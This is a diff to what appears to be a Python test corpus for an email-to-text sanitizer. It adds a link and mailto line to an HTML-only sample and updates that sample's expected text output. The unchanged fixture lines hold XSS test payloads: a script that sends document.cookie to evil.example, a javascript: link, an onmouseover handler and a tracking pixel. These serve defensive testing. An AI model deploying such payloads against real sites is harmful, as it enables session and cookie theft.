@@ -158,6 +158,8 @@ HTML_ONLY = _lines(
     "<script>document.location='https://evil.example/steal?c='+document.cookie</script>",
     '<img src="https://tracker.example/pixel.gif" alt="">',
     '<p><a href="javascript:alert(1)">click here</a> for details</p>',
+    '<p>Screenshot: <a href="https://files.example.org/shot.png">this one</a>,',
+    ' <a href="mailto:it@example.org">it@example.org</a></p>',
     '<div onmouseover="alert(2)">Thanks</div></body></html>',
 )
 
@@ -219,7 +221,16 @@ CORPUS = [
     Sample("missing-charset", MISSING_CHARSET, ("Viele Grüße aus Köln",)),
     Sample("unknown-charset", UNKNOWN_CHARSET, ("Unknown charset but plain words.",)),
     Sample("no-message-id", NO_MESSAGE_ID, ("Sent by an old script without a Message-ID.",)),
-    Sample("html-only", HTML_ONLY, ("Hello team,", "my account is locked.", "click here for details"), UNSAFE),
+    Sample(
+        "html-only",
+        HTML_ONLY,
+        (
+            "Hello team,\n\nmy account is locked.",
+            "click here for details",
+            "Screenshot: this one (https://files.example.org/shot.png), it@example.org",
+        ),
+        UNSAFE,
+    ),
     Sample("out-of-office", OUT_OF_OFFICE, ("I am out of the office until Monday",), automatic=True),
     Sample("attachment", WITH_ATTACHMENT, ("Here is the invoice you asked for.", "invoice-42.pdf")),
     Sample(
